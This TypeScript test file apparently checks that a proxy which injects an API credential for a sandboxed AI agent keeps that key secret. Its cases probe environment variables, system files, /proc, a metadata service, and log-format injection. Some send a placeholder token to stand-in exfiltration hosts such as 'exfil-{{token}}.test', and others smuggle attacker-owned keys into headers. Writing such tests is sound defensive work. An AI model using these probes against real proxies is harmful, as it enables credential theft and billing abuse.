import type { Case } from '../case.ts';
import { ask, BODY, CHAT, good, plain, type Step } from '../steps.ts';
import { ALLOWED, asked, denied, OK, PROVIDER, refused, table } from './build.ts';

const PLACEHOLDER = 'clrk-injected-by-proxy';
const JSON_TYPE = 'content-type: application/json';
const chat = (change: Record<string, unknown>): Step => ask({ body: JSON.stringify({ ...good, ...change }) });
const ANY_ANSWER = { outcome: 'http-status' } as const;
const value = (says: string) => ({ outcome: 'value', says }) as const;
const inSandbox = (says: string, steps: readonly Step[]): Case['twin'] => ({ attempt: { given: 'ai', steps }, expect: value(says) });

/** The real credential in anything the agent can read. The search of all forms is that of the canary test. */
const secrecy = table('credential secrecy', { canary: { name: 'key' }, twin: asked(), expect: ANY_ANSWER }, [
  {
    name: 'environment',
    what: 'The environment of the program.',
    steps: [ask(), { env: true }],
    expect: value('PATH'),
    twin: inSandbox('PATH', [{ env: true }]),
  },
  {
    name: 'files',
    what: 'Files of the sandbox.',
    steps: [ask(), { files: ['/etc', '/tmp', '/run', '/var', '/dev', '/home', '/root'] }],
    expect: value('nameserver'),
    twin: inSandbox('nameserver', [{ files: ['/etc'] }]),
  },
  {
    name: 'process',
    what: 'What /proc says of this process.',
    steps: [ask(), { files: ['/proc/self', '/proc/1'] }],
    expect: value('node'),
    twin: inSandbox('node', [{ read: '/proc/self/cmdline' }]),
  },
  { name: 'answer', what: 'Headers and body of an answer.', steps: [ask()], expect: OK, slice: true },
  { name: 'stream', what: 'A streamed answer.', steps: [chat({ stream: true })], expect: OK },
  { name: 'not-found', what: 'An error of the provider.', steps: [chat({ model: 'gpt-4.1-nope' })] },
  { name: 'broken', what: 'A failure of the provider.', steps: [chat({ model: 'gpt-4.1-broken' })] },
  { name: 'limited', what: 'A rate limit of the provider.', steps: [chat({ model: 'gpt-4.1-limited' })] },
  {
    name: 'wrong-key',
    what: 'An answer to a credential the provider does not take.',
    given: 'two',
    steps: [chat({ model: 'gpt-4o' })],
    expect: denied(401),
    canary: { name: 'key', without: ['sk-second'] },
    twin: asked('two'),
  },
  { name: 'denial', what: 'A denial.', steps: [chat({ model: 'gpt-5' })] },
  {
    name: 'denied-host',
    what: 'A denial of another host.',
    steps: [{ fetch: { url: 'https://leak-{{token}}.test/', headers: { authorization: `Bearer ${PLACEHOLDER}` } } }],
  },
  { name: 'malformed', what: 'An answer to a malformed request.', steps: [ask({ headers: ['content-length: x'], length: false })] },
  { name: 'trace', what: 'TRACE with Max-Forwards.', steps: [ask({ method: 'TRACE', headers: ['max-forwards: 0'], body: '' })] },
  { name: 'options', what: 'OPTIONS of the admitted path.', steps: [ask({ method: 'OPTIONS', body: '' })] },
  {
    name: 'debug-headers',
    what: 'Headers that ask proxies to show more.',
    steps: [ask({ headers: [JSON_TYPE, 'x-envoy-debug: 1', 'x-debug: true', 'x-b3-flags: 1', 'x-envoy-force-trace: true', 'x-client-trace-id: 1'] })],
  },
  {
    name: 'metadata-service',
    what: 'The metadata service of the sandbox.',
    steps: [plain({ path: '/' }, { host: 'metadata.clrk.internal' })],
    expect: { outcome: ['http-status', 'closed', 'refused'] },
  },
  {
    name: 'otlp',
    what: 'The receiver of telemetry in the sandbox.',
    steps: [plain({ path: '/v1/traces' }, { host: 'otlp.clrk.internal', port: 4318 })],
    expect: { outcome: ['http-status', 'closed', 'refused'] },
  },
]);

/** What stands in the place of the credential buys nothing anywhere else. */
const placeholder = table('placeholder abuse', { canary: PROVIDER, twin: asked() }, [
  {
    name: 'other-host',
    what: 'The placeholder goes to another host.',
    steps: [{ fetch: { url: 'https://exfil-{{token}}.test/', headers: { authorization: `Bearer ${PLACEHOLDER}` } } }],
    expect: denied(403, 'NoRoute'),
    record: refused('NoRoute'),
  },
  {
    name: 'query',
    what: 'The placeholder in a query stays what it is.',
    steps: [ask({ path: `${CHAT}?key=${PLACEHOLDER}` })],
    expect: OK,
    canary: { name: 'provider', without: ['"path":"[^"]*sk-proj'] },
  },
  {
    name: 'body',
    what: 'The placeholder in a body stays what it is.',
    steps: [chat({ messages: [{ role: 'user', content: PLACEHOLDER }] })],
    expect: OK,
    canary: { name: 'provider', without: ['"bytes":".*sk-proj'], with: [PLACEHOLDER] },
  },
  {
    name: 'other-header',
    what: 'The placeholder in another header stays what it is.',
    steps: [ask({ headers: [JSON_TYPE, `x-copy: ${PLACEHOLDER}`] })],
    expect: OK,
    canary: { name: 'provider', without: ['"x-copy":"[^"]*sk-proj'] },
  },
  {
    name: 'basic',
    what: 'The placeholder as basic authentication is replaced as a whole.',
    steps: [ask({ headers: [JSON_TYPE, `authorization: Basic ${Buffer.from(`${PLACEHOLDER}:x`).toString('base64')}`] })],
    expect: OK,
    canary: { name: 'provider', without: ['Basic'], with: ['"authorization":"Bearer sk-proj-'] },
  },
  {
    name: 'user-agent',
    what: 'The placeholder in User-Agent, with ours asked for twice.',
    steps: [ask({ headers: [JSON_TYPE, `authorization: Bearer ${PLACEHOLDER}`, `authorization: Bearer ${PLACEHOLDER}`, `user-agent: ${PLACEHOLDER}`] })],
    expect: { outcome: 'http-status', statuses: [200, 400] },
    canary: { name: 'provider', without: ['"user-agent":"[^"]*sk-proj', `"authorization":"[^"]*${PLACEHOLDER}`] },
  },
]);

const own = (name: string, what: string, ...headers: readonly string[]) => ({
  name,
  what,
  steps: [ask({ headers: [JSON_TYPE, ...headers] })],
  expect: OK,
  record: ALLOWED,
  canary: { name: 'provider', without: ['attacker'], with: ['"authorization":"Bearer sk-proj-'] } as const,
});

/** A credential of the agent's own would carry data into an account of somebody else at the admitted host. */
const anotherKey = table('another key', { twin: asked() }, [
  own('authorization', 'A key of its own.', 'authorization: Bearer sk-attacker'),
  own('authorization-twice', 'Two of them.', 'authorization: Bearer sk-attacker', 'authorization: Bearer sk-attacker-2'),
  own('authorization-capitals', 'The header in capitals.', 'AUTHORIZATION: Bearer sk-attacker'),
  own('x-api-key', 'The key as another provider takes it.', 'x-api-key: attacker'),
  own('api-key', 'The key as Azure takes it.', 'api-key: attacker'),
  own('x-goog-api-key', 'The key as Google takes it.', 'x-goog-api-key: attacker'),
  own('proxy-authorization', 'The key for a proxy.', 'proxy-authorization: Bearer attacker'),
  own('cookie', 'A session.', 'cookie: session=attacker'),
  own('organization', 'The organisation that is billed.', 'openai-organization: org-attacker'),
  own('project', 'The project that is billed.', 'openai-project: proj_attacker'),
  {
    ...own('connection', 'A header that Connection says is for this hop.', 'authorization: Bearer sk-attacker', 'x-api-key: attacker'),
    steps: [ask({ headers: [JSON_TYPE, 'authorization: Bearer sk-attacker', 'connection: close, authorization'], close: false })],
    slice: true,
  },
]);

/** What is logged is read before the credential is put in, and never more than host, path and method. */
const logFormats = table(
  'log formats',
  {
    record: ALLOWED,
    expect: OK,
    canary: { name: 'records', without: ['{{token}}', 'sk-proj-'] },
    twin: {
      attempt: { given: 'ai', steps: [ask({ path: '/v1/{{token}}' })] },
      expect: denied(403),
      record: { verdict: 'Denied', reason: ['EndpointNotAllowed', 'EndpointNotBuilt'] },
      sees: '{{token}}',
    },
  },
  [
    { name: 'header', what: 'A value in a header is in no record.', steps: [ask()] },
    { name: 'query', what: 'A value in the query is in no record.', steps: [ask({ path: `${CHAT}?q={{token}}` })] },
    {
      name: 'body',
      what: 'A value in the body is in no record.',
      steps: [ask({ body: BODY.replace('Hello.', '{{token}}') })],
    },
    { name: 'authorization', what: 'A key of the agent is in no record.', steps: [ask({ headers: [JSON_TYPE, 'authorization: Bearer {{token}}'] })] },
    {
      name: 'user-agent',
      what: 'What the agent calls itself is in no record.',
      steps: [ask({ headers: [JSON_TYPE, 'user-agent: {{token}}', 'referer: https://x.test/{{token}}'] })],
    },
    {
      name: 'format-operators',
      what: 'Operators of the log format in a header are text.',
      steps: [ask({ headers: [JSON_TYPE, 'user-agent: %REQ(AUTHORIZATION)%'], path: `${CHAT}?%REQ(AUTHORIZATION)%` })],
      expect: { outcome: 'http-status', statuses: [200, 400] },
      record: undefined,
    },
  ],
);

export default [...secrecy, ...placeholder, ...anotherKey, ...logFormats];
